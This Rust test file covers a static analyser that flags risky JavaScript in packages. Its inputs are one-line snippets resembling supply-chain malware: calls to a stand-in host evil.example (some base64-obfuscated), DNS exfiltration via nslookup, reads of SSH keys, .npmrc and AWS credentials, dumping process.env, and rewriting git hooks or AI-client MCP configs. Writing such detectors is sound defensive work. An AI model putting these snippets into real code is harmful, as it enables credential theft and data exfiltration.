//! Tables: a line of JavaScript, and the facts that it must give.

use oxc_allocator::Allocator;

use super::read;
use crate::caps::Caps;
use crate::facts::{Class, Facts, Found};

fn facts(source: &str, file: &str) -> Facts {
    let mut facts = Facts::default();
    let mut found = Found::new(&mut facts, file, source);
    let outcome = read(source, &Caps::default(), &Allocator::new(), &mut found);
    crate::facts::recognisers::places::finish(&mut found);
    outcome.unwrap_or_else(|why| panic!("{why:?}: {source}"));
    facts
}

fn values(source: &str, class: Class) -> Vec<String> {
    facts(source, "index.js").values(class).map(|(value, _)| value.to_owned()).collect()
}

fn check(class: Class, table: &[(&str, &[&str])]) {
    for (source, expected) in table {
        assert_eq!(values(source, class), *expected, "{source}");
    }
}

#[test]
fn capabilities_are_known_under_any_name() {
    check(
        Class::Exec,
        &[
            ("import { exec } from 'child_process'; exec('ls')", &["child_process", "child_process.exec"]),
            ("import * as cp from 'node:child_process'; cp.spawn('ls')", &["child_process", "child_process.spawn"]),
            (
                "const { execSync: run } = require('child_process'); run('ls')",
                &["child_process", "child_process.execSync"],
            ),
            ("(0, require('child_process').exec)('ls')", &["child_process", "child_process.exec"]),
            (
                "var a = b(require('child_process'), 1); (0, a.execFile)('ls')",
                &["child_process", "child_process.execFile"],
            ),
            ("require('child_' + 'process')['ex' + 'ec']('ls')", &["child_process", "child_process.exec"]),
            (
                "import { promisify } from 'util'; import { exec } from 'child_process'; const run = promisify(exec); run('ls')",
                &["child_process", "child_process.exec"],
            ),
            ("const cp = await import('node:child_process'); cp.exec('ls')", &["child_process", "child_process.exec"]),
            ("process.getBuiltinModule('child_process').exec('x')", &["child_process", "child_process.exec"]),
            ("/a/.exec(text); db.exec('select'); function exec() {} exec('x')", &[]),
        ],
    );
    check(
        Class::Http,
        &[
            ("fetch('https://a.dev')", &["fetch"]),
            ("globalThis.fetch(x)", &["fetch"]),
            ("import axios from 'axios'; axios.post(x)", &["axios", "axios.post"]),
            ("function f(fetch) { fetch(x) }", &[]),
        ],
    );
    check(
        Class::FileWrite,
        &[
            ("import fs from 'fs'; fs.promises.writeFile('a', b)", &["fs.writeFile"]),
            ("import { writeFile } from 'fs/promises'; writeFile('a', b)", &["fs/promises.writeFile"]),
            ("import fs from 'fs'; fs.readFileSync('a')", &[]),
        ],
    );
}

#[test]
fn code_that_is_made_at_run_time() {
    check(
        Class::DynamicCode,
        &[
            ("eval(x)", &["eval"]),
            ("new Function('a', b)()", &["Function"]),
            ("const e = globalThis['ev' + 'al']; e(x)", &["eval"]),
            ("setTimeout('alert(1)', 10)", &["setTimeout"]),
            ("setTimeout(() => 1, 10)", &[]),
            ("import vm from 'vm'; vm.runInThisContext(x)", &["vm", "vm.runInThisContext"]),
        ],
    );
    check(
        Class::DynamicImport,
        &[
            ("import(x)", &["import"]),
            ("require(x)", &["require"]),
            ("require('./locales/' + x)", &["require ./locales/*"]),
            ("import('./a.js'); require('b')", &[]),
            (
                "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r(x); r('fs')",
                &["require"],
            ),
        ],
    );
}

#[test]
fn environment_names() {
    check(
        Class::Environment,
        &[
            ("process.env.NPM_TOKEN", &["NPM_TOKEN"]),
            ("process.env['NPM' + '_TOKEN']", &["NPM_TOKEN"]),
            ("const { NPM_TOKEN, GH_TOKEN: x = 1 } = process.env; y(NPM_TOKEN, x)", &["*", "GH_TOKEN", "NPM_TOKEN"]),
            ("const e = process.env; e.NPM_TOKEN", &["*", "NPM_TOKEN"]),
            ("send(JSON.stringify(process.env))", &["*"]),
            ("import { env } from 'process'; env.A_TOKEN", &["A_TOKEN"]),
            ("Deno.env.get('A_TOKEN'); import.meta.env.B", &["A_TOKEN", "B"]),
            ("x.env.NOT", &[]),
        ],
    );
}

#[test]
fn hosts_and_the_keys_that_hold_them() {
    check(
        Class::Host,
        &[
            ("fetch('https://api.evil.example/x')", &["api.evil.example"]),
            ("const h = 'evil.example'; fetch(`https://${h}/x`)", &["evil.example"]),
            ("fetch('https://' + Buffer.from('ZXZpbC5leGFtcGxl', 'base64') + '/')", &["evil.example"]),
            ("fetch(`https://${x}.evil.example`)", &["*.evil.example"]),
        ],
    );
    check(
        Class::HostKey,
        &[
            ("x({ hostname: 'evil.example', port: 25 })", &["evil.example"]),
            ("x({ webhook: 'https://evil.example/y' })", &["evil.example"]),
            ("const endpoint = process.env.X || 'https://evil.example'", &["evil.example"]),
            ("x({ url: './index.js' }); y({ host: z })", &[]),
        ],
    );
}

#[test]
fn places_and_commands() {
    check(
        Class::SensitivePath,
        &[
            (
                "import path from 'path'; import os from 'os'; read(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                &["ssh", "ssh-key"],
            ),
            ("read(home + '/.npmrc')", &["npmrc"]),
            ("read(atob('Ly5hd3MvY3JlZGVudGlhbHM='))", &["aws"]),
        ],
    );
    check(
        Class::ClientConfigWrite,
        &[
            ("import fs from 'fs'; fs.writeFileSync(home + '/.cursor/mcp.json', x)", &["cursor"]),
            (
                "import fs from 'fs'; for (const p of ['.claude.json', '.mcp.json']) fs.writeFileSync(p, x)",
                &["claude-code", "mcp-json"],
            ),
            ("console.log('put this into claude_desktop_config.json')", &[]),
        ],
    );
    check(
        Class::GitHook,
        &[
            ("run('git config --global core.hooksPath ' + x)", &["hooks-path"]),
            ("run(['git', 'config', '--global', 'init.templateDir', x])", &["template-folder"]),
            ("write('.git/hooks/pre-commit')", &["hooks-folder"]),
        ],
    );
    check(Class::CiFile, &[("write('.github/workflows/x.yml')", &["github"])]);
    check(Class::SelfPublish, &[("run('npm publish --access public')", &["npm"]), ("x('publish')", &[])]);
}

#[test]
fn waiting_and_dns() {
    check(
        Class::TimeGate,
        &[
            ("setTimeout(run, 48 * 60 * 60 * 1000)", &["waits 172800 s"]),
            ("const HOURS = 3600e3; setTimeout(run, 72 * HOURS)", &["waits 259200 s"]),
            ("setTimeout(run, 1000)", &[]),
            ("if (Date.now() > 1790000000000) run()", &["date 1790000000"]),
            ("if (new Date() > new Date('2026-09-01')) run()", &["date 2026-09-01"]),
            ("if (Date.now() - installed > 48 * 3600 * 1000) run()", &["elapsed 172800000"]),
            ("if (Date.now() - t > 1000) x()", &[]),
        ],
    );
    check(
        Class::DnsLabel,
        &[
            ("import dns from 'dns'; dns.resolveTxt(data + '.evil.example', f)", &["dns.resolveTxt"]),
            ("import { exec } from 'child_process'; exec(`nslookup ${x}.evil.example`)", &["child_process.exec"]),
            ("import dns from 'dns'; dns.lookup(host, f); dns.resolve4('a.example', f)", &[]),
        ],
    );
}

#[test]
fn encoded_texts() {
    let base64 = "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXpBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWjAxMjM0NTY3ODk".repeat(10);
    assert_eq!(values(&format!("x = '{base64}'"), Class::Encoded).len(), 1);
    assert_eq!(values(&format!("x = 'iVBOR{base64}'"), Class::Encoded).len(), 0);
    assert_eq!(values(&format!("x = '{}'", "lorem ipsum ".repeat(100)), Class::Encoded).len(), 0);
    assert_eq!(values(&format!("x = '{}'", "0123456789abcdef".repeat(20)), Class::Encoded).len(), 1);
}

#[test]
fn the_key_reaches_to_the_next_function_only() {
    let sources =
        ["x({ bcc: () => { log('a@b.example') } })", "x({ bcc: function () { return y({ from: 'a@b.example' }) } })"];
    for source in sources {
        assert_eq!(values(source, Class::Recipient), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn typescript_and_jsx_are_read() {
    let typed = "enum A { X = 1 } const bcc: string = 'a@evil.example' as const; type T = { to: 'b@c.example' };";
    let facts = facts(typed, "src/a.ts");
    assert_eq!(facts.values(Class::Recipient).map(|(value, _)| value).collect::<Vec<_>>(), ["a@evil.example"]);
    let jsx = "export const A = () => <a href='mailto:a@evil.example'>x</a>;";
    assert_eq!(values(jsx, Class::Email), ["a@evil.example"]);
}
